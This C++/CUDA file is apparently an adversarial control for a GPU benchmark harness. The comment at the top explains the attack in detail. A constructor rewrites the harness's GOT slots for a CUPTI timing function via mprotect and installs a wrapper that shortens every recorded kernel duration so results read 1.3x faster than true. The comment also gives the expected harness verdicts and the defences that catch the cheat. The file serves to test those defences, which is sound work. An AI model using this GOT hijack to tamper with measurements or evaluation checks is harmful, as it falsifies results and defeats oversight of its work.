/*
Adversarial control: got_rewrite   (issue 34: rewriting the harness's own code paths in memory)

Attack. The timing child reads CUPTI's kernel records in its buffer-completed callback,
record by record, with cuptiActivityGetNextRecord (src/measure/activity_timer.cc): a call
from the ptxbench executable into libcupti.so through the executable's GOT. The candidate
runs in that process, so in the timing child (its spec says "role": "timing") a constructor:
  - walks the loaded objects with dl_iterate_phdr (the executable first; libcupti itself and
    this object are skipped), reads each one's dynamic section in memory (DT_JMPREL and
    DT_RELA with DT_SYMTAB / DT_STRTAB) and finds the JUMP_SLOT / GLOB_DAT relocations of
    cuptiActivityGetNextRecord: the GOT slots the harness calls through;
  - makes each slot's page writable (mprotect; under full RELRO it is read-only) and writes
    the address of its own wrapper there. The result of mprotect is not checked: where the
    page stays read-only the write faults, and the candidate never runs honestly timed.
The wrapper calls the real function (a weak reference of this object, bound at load to the
harness's libcupti, so lazy binding cannot undo the patch) and, for every kernel record
(kind CUPTI_ACTIVITY_KIND_CONCURRENT_KERNEL = 10; start at byte 16, end at byte 24 of
CUpti_ActivityKernel9, CUDA 13.0's cupti_activity.h), moves `end` so that the kernel lasted
1/1.3 of its time. Span and busy shrink together, the host time stays within the host rule
(host <= 1.5 x span + 1 ms), and the speed is 1.3x what the GPU did: modest on purpose, the
kind of lie that a loose witness factor lets through.
The kernel is the honest CUDA-core GEMM of channel_relay.cu (~25 ms a call at the headline,
all 132 SMs busy: the GPM witness reads close to all of its busy time).

Old harness: not run against it. By the code at de49d52 (lazy binding, partial RELRO: the
.got.plt slot is writable as it is; mprotect not even needed): the timed median is 1/1.3 of
the truth and the witness, median x 1.5 >= busy per call, agrees: PASSED at 1.3x the GEMM's
true speed.
Now: full RELRO and BIND_NOW for the harness binary, LD_BIND_NOW in the child. If the write
faults: RUNTIME_ERROR (a crash in the candidate's process). If it succeeds (mprotect is
allowed): the witness factor is tightened to ~1.15, and median x 1.15 = 0.885 x the true time
is below the busy time per call the witness reads for this kernel (~0.95-1.0 x the true time
for a kernel that fills the GPU): RULE_VIOLATION witness_disagrees. Never PASSED, never
INFRA_ERROR (a crash at load in the timing child, before its first call, was INFRA_ERROR by
the old timing judge). The margin is thin by design: this control tells whether the
tightened factor holds for a full-GPU kernel (honest kernels read 0.8-1.05 busy/timed on the
H200, docs/threat-model.md).
Checked on a CPU machine (2026-12-06): in a child of this tree's ptxbench under its full
confinement (Landlock, namespaces, seccomp, uid 65534), the slot was rewritten in the binary
as built and in one relinked with -z relro -z now: the seccomp filter allows mprotect to
PROT_WRITE, so RELRO + BIND_NOW alone leave the witness to catch it (mseal of the RELRO range
before the candidate is loaded would make the write fault).
*/
#include <cuda_bf16.h>
#include <cuda_runtime.h>

#include <elf.h>
#include <fcntl.h>
#include <link.h>
#include <sys/mman.h>
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <cstring>
#include <string>

// The harness's CUPTI: CUptiResult is a C enum (int), CUpti_Activity* an opaque pointer here.
extern "C" int cuptiActivityGetNextRecord(uint8_t* buffer, size_t valid_bytes, void** record)
    __attribute__((weak));

namespace {

// ---- the honest, slow GEMM (channel_relay.cu) ------------------------------------------------

__global__ void __launch_bounds__(256)
    cc_gemm(const __nv_bfloat16* __restrict__ A, const __nv_bfloat16* __restrict__ B,
            __nv_bfloat16* __restrict__ C, int M, int N, int K) {
  __shared__ float As[16][65], Bs[16][65];  // [k][row], padded
  const int tx = threadIdx.x & 15, ty = threadIdx.x >> 4;
  const int m0 = blockIdx.y * 64, n0 = blockIdx.x * 64;
  float acc[4][4] = {};
  for (int k0 = 0; k0 < K; k0 += 16) {
    for (int i = threadIdx.x; i < 64 * 16; i += 256) {
      const int r = i >> 4, k = i & 15, gk = k0 + k;
      As[k][r] = (m0 + r < M && gk < K) ? __bfloat162float(A[(size_t)(m0 + r) * K + gk]) : 0.f;
      Bs[k][r] = (n0 + r < N && gk < K) ? __bfloat162float(B[(size_t)(n0 + r) * K + gk]) : 0.f;
    }
    __syncthreads();
#pragma unroll
    for (int k = 0; k < 16; ++k)
#pragma unroll
      for (int i = 0; i < 4; ++i)
#pragma unroll
        for (int j = 0; j < 4; ++j)
          acc[i][j] = fmaf(As[k][ty + 16 * i], Bs[k][tx + 16 * j], acc[i][j]);
    __syncthreads();
  }
  for (int i = 0; i < 4; ++i) {
    const int m = m0 + ty + 16 * i;
    if (m >= M) continue;
    for (int j = 0; j < 4; ++j) {
      const int n = n0 + tx + 16 * j;
      if (n < N) C[(size_t)m * N + n] = __float2bfloat16_rn(acc[i][j]);
    }
  }
}

// ---- the wrapper ----------------------------------------------------------------------------

constexpr uint32_t kConcurrentKernel = 10;  // CUPTI_ACTIVITY_KIND_CONCURRENT_KERNEL
constexpr size_t kStartOffset = 16, kEndOffset = 24;  // CUpti_ActivityKernel9 (CUDA 13.0)
constexpr double kShrink = 1.3;

int shrinking_next_record(uint8_t* buffer, size_t valid_bytes, void** record) {
  const int r = cuptiActivityGetNextRecord(buffer, valid_bytes, record);
  if (r != 0 || !record || !*record) return r;
  uint8_t* rec = static_cast<uint8_t*>(*record);
  uint32_t kind;
  memcpy(&kind, rec, sizeof kind);
  if (kind != kConcurrentKernel) return r;
  uint64_t start, end;
  memcpy(&start, rec + kStartOffset, sizeof start);
  memcpy(&end, rec + kEndOffset, sizeof end);
  if (end > start) {
    end = start + static_cast<uint64_t>(static_cast<double>(end - start) / kShrink);
    memcpy(rec + kEndOffset, &end, sizeof end);
  }
  return r;
}

// ---- finding and rewriting the GOT slots ----------------------------------------------------

std::string slurp(const char* path) {
  std::string s;
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return s;
  char buf[65536];
  ssize_t n;
  while ((n = read(fd, buf, sizeof buf)) > 0) s.append(buf, (size_t)n);
  close(fd);
  return s;
}

// The child's role from its spec (the argument after "__child" on our command line).
std::string role() {
  const std::string c = slurp("/proc/self/cmdline");
  for (size_t p = 0; p < c.size();) {
    size_t e = c.find('\0', p);
    if (e == std::string::npos) e = c.size();
    if (c.compare(p, e - p, "__child") == 0 && e + 1 < c.size()) {
      const std::string spec = slurp(c.c_str() + e + 1);
      size_t r = spec.find("\"role\"");
      if (r == std::string::npos || (r = spec.find(':', r)) == std::string::npos) return "";
      r = spec.find('"', r + 1);
      return spec.substr(r + 1, spec.find('"', r + 1) - r - 1);
    }
    p = e + 1;
  }
  return "";
}

int g_slots = 0;

void rewrite_slot(void** slot) {
  const uintptr_t page_size = static_cast<uintptr_t>(sysconf(_SC_PAGESIZE));
  const uintptr_t page = reinterpret_cast<uintptr_t>(slot) & ~(page_size - 1);
  // Not checked: where the page stays read-only, the write below faults.
  mprotect(reinterpret_cast<void*>(page), page_size, PROT_READ | PROT_WRITE);
  *reinterpret_cast<void* volatile*>(slot) = reinterpret_cast<void*>(&shrinking_next_record);
  ++g_slots;
}

int patch_object(dl_phdr_info* info, size_t, void*) {
  const char* name = info->dlpi_name ? info->dlpi_name : "";
  if (strstr(name, "cupti")) return 0;  // the library itself
  const ElfW(Addr) base = info->dlpi_addr;
  const ElfW(Dyn)* dyn = nullptr;
  bool ours = false;
  const uintptr_t self = reinterpret_cast<uintptr_t>(&shrinking_next_record);
  for (int i = 0; i < info->dlpi_phnum; ++i) {
    const ElfW(Phdr)& ph = info->dlpi_phdr[i];
    if (ph.p_type == PT_DYNAMIC) dyn = reinterpret_cast<const ElfW(Dyn)*>(base + ph.p_vaddr);
    if (ph.p_type == PT_LOAD && self >= base + ph.p_vaddr && self < base + ph.p_vaddr + ph.p_memsz)
      ours = true;
  }
  if (!dyn || ours) return 0;
  // ld.so relocates these entries in place where the object was loaded at an offset; an
  // entry below the load address is still relative.
  auto at = [base](ElfW(Addr) v) { return v < base ? v + base : v; };
  const ElfW(Sym)* symtab = nullptr;
  const char* strtab = nullptr;
  const ElfW(Rela)* tables[2] = {nullptr, nullptr};
  size_t sizes[2] = {0, 0};
  for (const ElfW(Dyn)* d = dyn; d->d_tag != DT_NULL; ++d) {
    switch (d->d_tag) {
      case DT_SYMTAB: symtab = reinterpret_cast<const ElfW(Sym)*>(at(d->d_un.d_ptr)); break;
      case DT_STRTAB: strtab = reinterpret_cast<const char*>(at(d->d_un.d_ptr)); break;
      case DT_JMPREL: tables[0] = reinterpret_cast<const ElfW(Rela)*>(at(d->d_un.d_ptr)); break;
      case DT_PLTRELSZ: sizes[0] = d->d_un.d_val; break;
      case DT_RELA: tables[1] = reinterpret_cast<const ElfW(Rela)*>(at(d->d_un.d_ptr)); break;
      case DT_RELASZ: sizes[1] = d->d_un.d_val; break;
      default: break;
    }
  }
  if (!symtab || !strtab) return 0;
  for (int t = 0; t < 2; ++t) {
    if (!tables[t]) continue;
    for (size_t i = 0; i < sizes[t] / sizeof(ElfW(Rela)); ++i) {
      const ElfW(Rela)& r = tables[t][i];
      const unsigned type = ELF64_R_TYPE(r.r_info), sym = ELF64_R_SYM(r.r_info);
      if ((type != R_X86_64_JUMP_SLOT && type != R_X86_64_GLOB_DAT) || sym == 0) continue;
      if (strcmp(strtab + symtab[sym].st_name, "cuptiActivityGetNextRecord") != 0) continue;
      rewrite_slot(reinterpret_cast<void**>(base + r.r_offset));
    }
  }
  return 0;
}

__attribute__((constructor)) void rewrite_the_harness() {
  if (!cuptiActivityGetNextRecord || role() != "timing") return;
  dl_iterate_phdr(patch_object, nullptr);
  fprintf(stderr, "got_rewrite: %d GOT slot(s) now shrink kernel records by %.1fx\n", g_slots,
          kShrink);
}

}  // namespace

extern "C" int run(const __nv_bfloat16* A, const __nv_bfloat16* B, __nv_bfloat16* C, int M, int N,
                   int K, cudaStream_t stream) {
  if (M <= 0 || N <= 0 || K <= 0) return 1;
  const dim3 grid((unsigned)((N + 63) / 64), (unsigned)((M + 63) / 64));
  if (grid.y > 65535u) return 2;
  cc_gemm<<<grid, 256, 0, stream>>>(A, B, C, M, N, K);
  return cudaGetLastError() == cudaSuccess ? 0 : 3;
}
